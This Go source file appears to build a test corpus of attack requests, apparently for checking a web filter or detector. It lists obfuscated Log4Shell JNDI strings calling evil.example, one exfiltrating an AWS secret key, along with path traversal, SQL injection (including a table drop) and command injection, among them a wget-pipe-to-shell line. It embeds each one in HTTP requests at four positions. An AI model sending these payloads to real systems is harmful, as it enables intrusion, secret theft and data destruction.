// SPDX-License-Identifier: Apache-2.0

package traffic

import (
	"cmp"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
)

// Attack is what somebody tries on a server, and the class of attacks that it is of.
type Attack struct{ Class, Text string }

// Attacks are twenty spellings of Log4Shell, and of other classes some, ordered by class.
func Attacks() (all []Attack) {
	for class, texts := range map[string][]string{
		"log4shell": {
			"${jndi:ldap://evil.example/a}", "${JNDI:dns://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
			"${${lower:j}${lower:n}${lower:d}i:ldap://evil.example/a}", "${${upper:j}${upper:n}di:ldap://evil.example/a}",
			"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
			"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://evil.example/a}", "${${sys:nothing:-j}ndi:ldap://evil.example/a}",
			"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}",
			"${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}", "${${:-j}${:-n}${:-d}${:-i}:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
			"${base64:JHtqbmRpOmxkYXA6Ly9ldmlsL2F9}${${base64:am5kaQ==}:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}",
			"${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}",
			"${${k8s:k5:-J}${k8s:k5:-ND}${sd:k5:-I:}ldap://evil.example/a}", "text before ${${::-j}ndi:ldap://evil.example/a} and after",
			"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}", "${jndi:ldap://127.0.0.1#evil.example/a}",
		},
		"path-traversal":    {"../../../../etc/passwd", "....//....//....//etc/passwd", "/etc/passwd", `..\..\..\windows\win.ini`, "file:///etc/shadow", "../../../../proc/self/environ"},
		"sql-injection":     {"1' or '1'='1", "admin'--", "-1 union select 1,2,3", "' uNiOn/**/sElEcT/**/1,2,3#", "1'; drop table users--", "1 and sleep(5)", "x' union select table_name,null from information_schema.tables where '1'='1"},
		"command-injection": {"127.0.0.1; cat /etc/passwd", "$(cat /etc/passwd)", "`id`", ";{cat,/etc/passwd}", "127.0.0.1 && whoami", "; wget http://evil.example/x.sh -O- | sh", "|| sleep 10 ||"},
	} {
		for _, text := range texts {
			all = append(all, Attack{class, text})
		}
	}
	slices.SortFunc(all, func(a, b Attack) int {
		return cmp.Or(strings.Compare(a.Class, b.Class), strings.Compare(a.Text, b.Text))
	})
	return all
}

// At is a request of HTTP/1.1 that has the attack at one of four places, and the place's name: url, header, form, json.
func (a Attack) At(place int) (name string, request []byte) {
	const head = "%s HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
	body := func(kind, text string) []byte {
		return fmt.Appendf(nil, head+"Content-Type: %s\r\nContent-Length: %d\r\n\r\n%s", "POST /items", kind, len(text), text)
	}
	switch place % 4 {
	case 0:
		return "url", fmt.Appendf(nil, head+"\r\n", "GET /items?lang=en&q="+url.QueryEscape(a.Text))
	case 1:
		return "header", fmt.Appendf(nil, head+"X-Forwarded-For: %s\r\n\r\n", "GET /items", a.Text)
	case 2:
		return "form", body("application/x-www-form-urlencoded", "name=Ann&comment="+url.QueryEscape(a.Text))
	default:
		text, _ := json.Marshal(map[string]any{"name": "Ann", "items": []any{1, map[string]string{"note": a.Text}}})
		return "json", body("application/json", string(text))
	}
}
